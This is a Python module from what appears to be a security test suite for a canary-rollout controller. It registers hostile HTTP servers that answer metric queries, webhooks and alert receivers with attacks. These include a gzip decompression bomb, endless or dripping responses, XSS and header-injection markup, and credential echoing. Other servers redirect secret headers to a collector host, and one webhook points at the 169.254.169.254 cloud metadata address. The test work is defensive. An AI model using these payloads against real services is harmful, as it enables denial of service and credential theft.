"""Attacks by what servers answer: too much, nonsense, cookies, redirects, and the credentials that they were sent."""

from __future__ import annotations

import base64
import json
import zlib
from functools import partial
from typing import Any, Final
from urllib.parse import quote

from attackers.objects import check, hook
from attackers.place import Place, attacker, register
from attackers.victim import vector, whole
from peers.http_peers import Behaviour, Caller, answering

_HEAD: Final = b"HTTP/1.1 %d Any\r\nContent-Type: application/json\r\n\r\n"
_MARKUP: Final = "<script>alert(1)</script> <!channel> **bold** \x1b[2J\0\r\nX-Evil: 1"


def endless(piece: bytes, status: int = 200) -> Behaviour:
    """Answers for ever, as fast as the other side reads."""

    async def behave(caller: Caller) -> None:
        await caller.request()
        await caller.send(_HEAD % status)
        while not caller.left:
            await caller.send(piece * 1000)
            await caller.pause(0)

    return behave


def dripping(status: int = 200) -> Behaviour:
    """Answers for ever, a byte at a time."""

    async def behave(caller: Caller) -> None:
        await caller.request()
        await caller.send(_HEAD % status)
        while not caller.left:
            await caller.send(b"x")
            await caller.pause(0.2)

    return behave


def redirecting(to: str) -> Behaviour:
    """Sends everybody somewhere else."""
    return answering(whole(b"", f"Location: {to}", status=307))


def _in_every_form(secret: str) -> str:
    data = secret.encode()
    encoded = base64.b64encode(data).decode(), base64.urlsafe_b64encode(data).decode()
    return " ".join((secret, *encoded, quote(secret, safe=""), quote(secret)))


# -- Prometheus -----------------------------------------------------------------------------------------------------


def _judged_by(place: Place, url: str, **provider: Any) -> None:
    """A rollout that is judged by a server of his own."""
    name = f"{place.name}-template"
    place.create(place.template(name, "up", address=url, **provider))
    place.roll_out(place.canary(metrics=[check(templateRef={"name": name})]))


def _prometheus(place: Place, behaviour: Behaviour) -> None:
    _judged_by(place, place.server(behaviour).url)


_SERIES: Final = b'{"metric":{"a":"b"},"value":[1,"1"]},'


@attacker()
def answer_of_blanks_compressed(place: Place) -> None:
    """Two hundred mebibytes that take a thousandth of their size on the way."""
    pack = zlib.compressobj(wbits=31)
    data = b"".join(pack.compress(b" " * 2**20) for _ in range(200)) + pack.flush()
    _prometheus(place, answering(whole(data, "Content-Encoding: gzip")))


def _of_prometheus() -> dict[str, Behaviour]:
    return {
        "without-end": endless(_SERIES),
        "of-20-mb": answering(whole(vector(*["1"] * 300_000))),
        "nested-deeply": answering(whole(b'{"status":"success","data":' + b"[" * 500_000)),
        "that-is-not-a-number": answering(whole(vector("NaN"))),
        "of-garbage": answering(whole(b"\0\xff<html>" * 1000)),
        "of-thousands-of-series": answering(whole(vector(*["1"] * 10_000))),
        "of-html": answering(whole(b"<html><script>alert(1)</script>", "Content-Type: text/html")),
        "that-drips": dripping(),
        "that-leads-in-a-ring": redirecting("/api/v1/query"),
    }


for what, behaviour in _of_prometheus().items():
    register(f"answer-{what}", partial(_prometheus, behaviour=behaviour))


@attacker()
def answer_with_a_cookie(place: Place) -> None:
    """Of a Prometheus, for whoever is on this host."""
    _prometheus(place, answering(whole(vector("1"), f"Set-Cookie: team={place.cookie}; Path=/")))


def _repeating(place: Place, answer: str) -> Behaviour:
    text = _in_every_form(place.secret) + _in_every_form(f"team:{place.secret}")
    answers = {
        "error": whole(text.encode(), status=400),
        "value": whole(vector(text)),
        "shape": whole(json.dumps({"status": "success", "data": {"resultType": "vector", "result": [text]}}).encode()),
        "warning": whole(json.dumps({**json.loads(vector("1")), "warnings": [text]}).encode()),
    }
    return answering(answers[answer])


def _repeats(place: Place, answer: str, how: str) -> None:
    secret, name = place.secret, f"{place.name}-own"
    url = place.server(_repeating(place, answer)).url
    place.create(place.credentials(name, **_secret_data(how, secret)))
    match how:
        case "headers":
            _judged_by(place, url, headers={"X-Scope-OrgID": [secret]})
        case "address":
            _judged_by(place, url.replace("//", f"//team:{quote(secret, safe='')}@") + f"/{quote(secret, safe='')}")
        case _:
            _judged_by(place, url, secretRef={"name": name})


def _secret_data(how: str, secret: str) -> dict[str, str]:
    return {"username": "team", "password": secret} if how == "password" else {"token": secret}


for where, how in (
    ("error", "token"),
    ("error", "password"),
    ("error", "headers"),
    ("error", "address"),
    ("value", "token"),
    ("shape", "password"),
    ("warning", "token"),
):
    register(f"{how}-repeated-in-an-answers-{where}", partial(_repeats, answer=where, how=how), planted=True)


@attacker(planted=True)
def answer_that_leads_elsewhere(place: Place) -> None:
    """To another host, with the headers that were meant for this one."""
    _judged_by(
        place,
        place.server(redirecting(f"{place.around.collector}/api/v1/query")).url,
        headers={"X-Scope-OrgID": [place.secret]},
    )


# -- Hooks and receivers --------------------------------------------------------------------------------------------


def _asks(place: Place, behaviour: Behaviour) -> None:
    """A hook whose address has credentials in it."""
    quoted = quote(place.secret, safe="")
    url = place.server(behaviour).url.replace("//", f"//team:{quoted}@")
    place.roll_out(place.canary(webhooks=[hook(f"{url}/{quoted}?key={quoted}", retries=1)]))


def _tells(place: Place, behaviour: Behaviour) -> None:
    """A receiver whose address and token are secrets."""
    name = f"{place.name}-receiver"
    address = f"{place.server(behaviour).url}/{quote(place.secret, safe='')}"
    place.create(place.credentials(name, address=address, token=place.secret))
    place.create(place.receiver(name, secretRef={"name": name}))
    alerts = [{"name": "told", "severity": "info", "providerRef": {"name": name}}]
    place.roll_out(place.canary(alerts=alerts))


def _either(place: Place, way: Any, what: str) -> None:
    repeated = f"{_MARKUP} {_in_every_form(place.secret)} {_in_every_form(f'team:{place.secret}')}".encode()
    behaviours = {
        "with-a-cookie": lambda: answering(whole(b"{}", f"Set-Cookie: team={place.cookie}; Path=/")),
        "without-end": lambda: endless(b"x" * 64, 500),
        "that-drips": lambda: dripping(500),
        "that-leads-elsewhere": lambda: redirecting(f"{place.around.collector}/"),
        "that-leads-in-a-ring": lambda: redirecting("/"),
        "that-repeats": lambda: answering(whole(repeated, status=500)),
        "that-can-wait": lambda: answering(whole(b"", "Retry-After: 99999999", status=503)),
    }
    way(place, behaviours[what]())


for what in (
    "with-a-cookie",
    "without-end",
    "that-drips",
    "that-leads-elsewhere",
    "that-leads-in-a-ring",
    "that-repeats",
    "that-can-wait",
):
    register(f"hook-{what}", partial(_either, way=_asks, what=what), planted=True)
    register(f"receiver-{what}", partial(_either, way=_tells, what=what), planted=True)


@attacker(told=r"denied|link-local|not called")
def where_clouds_give_credentials(place: Place) -> None:
    """The address of the metadata service."""
    place.roll_out(place.canary(webhooks=[hook("http://169.254.169.254/latest/meta-data/")]))
